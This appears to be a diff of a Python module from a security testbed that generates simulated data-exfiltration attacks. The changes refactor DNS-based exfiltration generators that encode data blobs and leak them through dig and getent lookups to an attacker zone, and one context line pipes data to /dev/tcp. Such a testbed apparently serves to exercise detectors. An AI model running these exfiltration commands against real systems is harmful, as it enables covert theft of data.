@@ -1,7 +1,7 @@
 """Data that leave: over HTTP, SSH, bare TCP and DNS, in one piece or in small ones, at once or slowly."""
 
-from testbed.attacks.material import (INSIDE, SSH, blob, drop, key_of, listening, maybe, pause, program, text, user_agent, words,
-                                      zone_server)
+from testbed.attacks.material import (INSIDE, SSH, blob, drop, key_of, listening, maybe, pause, program, serving, text, user_agent,
+                                      words, zone)
 from testbed.attacks.tunnels import ssh_server, through_names
 from testbed.catalogue import Assault, attack
 
@@ -138,33 +138,33 @@ def bash_away(c):
     return Assault(c.choose(f"{blob(bulk(c))} > /dev/tcp/{end.address}/{end.port}", slow), **end.assault)
 
 
-def zone_sink(c, zone: str) -> str:
-    return program("zone.py", "--zone", zone, "--seed", c.between(1, 10**6))
+def in_names(c, command) -> Assault:
+    """Sends data inside names of a zone of the attacker's; `command` makes the command of the zone."""
+    name, port = zone(c)
+    server = program("zone.py", "--zone", name, "--port", port, "--seed", c.between(1, 10**6))
+    return Assault(command(name), evidence=through_names(name), **serving(name, port, server, c))
 
 
-@attack("exfil_dns", technique=PLAIN, tool="dig", origins=INSIDE, needs=("dns",), packages=("bind9-dnsutils",), seconds=70)
+@attack("exfil_dns", technique=PLAIN, tool="dig", origins=INSIDE, needs=("dns", "outside:zones"),
+        packages=("bind9-dnsutils",), seconds=70)
 def dig_away(c):
-    zone = c.choose(*c.conventions.zones)
-    fields, ready = zone_server(c, zone_sink(c, zone))
-    width = c.choose(12, 20, 30)
-    return Assault(f"{ready}count=0; {blob(c.between(600, 2500))} | od -An -v -tx1 -w{width} | tr -d ' ' | while read part; do"
-                   f" count=$((count + 1)); dig {c.choose('A', 'TXT', 'CNAME', 'AAAA')} $part.$count.{zone} +short +tries=1 +time=2;"
-                   f" {pause(c.between(0.0, 0.6))}; done", evidence=through_names(c, zone), **fields)
+    kind = c.choose("A", "TXT", "CNAME", "AAAA")
+    return in_names(c, lambda name: f"count=0; {blob(c.between(600, 2500))} | od -An -v -tx1 -w{c.choose(12, 20, 30)} | tr -d ' ' |"
+                    f" while read part; do count=$((count + 1)); dig {kind} $part.$count.{name} +short +tries=1 +time=2;"
+                    f" {pause(c.between(0.0, 0.6))}; done")
 
 
-@attack("exfil_dns", technique=PLAIN, tool="names.py", origins=INSIDE, needs=("dns",), packages=("python3",), seconds=80)
+@attack("exfil_dns", technique=PLAIN, tool="names.py", origins=INSIDE, needs=("dns", "outside:zones"), packages=("python3",),
+        seconds=80)
 def names_away(c):
-    zone = c.choose(*c.conventions.zones)
-    fields, ready = zone_server(c, zone_sink(c, zone))
-    return Assault(ready + program("names.py", "--zone", zone, "--server", c.network.resolver, "--bytes", c.between(800, 5000),
-                                   "--label", c.between(16, 63), "--labels", c.between(1, 3), "--type",
-                                   c.choose("A", "AAAA", "TXT", "MX", "NULL"), "--pause", c.between(0.02, 0.7), "--seed",
-                                   c.between(1, 10**6)), evidence=through_names(c, zone), **fields)
+    return in_names(c, lambda name: program(
+        "names.py", "--zone", name, "--server", c.network.resolver, "--bytes", c.between(800, 5000), "--label",
+        c.between(16, 63), "--labels", c.between(1, 3), "--type", c.choose("A", "AAAA", "TXT", "MX", "NULL"), "--pause",
+        c.between(0.02, 0.7), "--seed", c.between(1, 10**6)))
 
 
-@attack("exfil_dns", technique=PLAIN, tool="getent", origins=INSIDE, needs=("dns",), packages=("libc-bin",), seconds=70)
+@attack("exfil_dns", technique=PLAIN, tool="getent", origins=INSIDE, needs=("dns", "outside:zones"), packages=("libc-bin",),
+        seconds=70)
 def getent_away(c):
-    zone = c.choose(*c.conventions.zones)
-    fields, ready = zone_server(c, zone_sink(c, zone))
-    return Assault(f"{ready}{blob(c.between(400, 1500))} | base64 -w{c.between(16, 60)} | tr '+/=' 'xyz' | while read part; do getent"
-                   f" ahostsv4 $part.{zone}; {pause(c.between(0.0, 0.7))}; done", evidence=through_names(c, zone), **fields)
+    return in_names(c, lambda name: f"{blob(c.between(400, 1500))} | base64 -w{c.between(16, 60)} | tr '+/=' 'xyz' | while read part;"
+                    f" do getent ahostsv4 $part.{name}; {pause(c.between(0.0, 0.7))}; done")
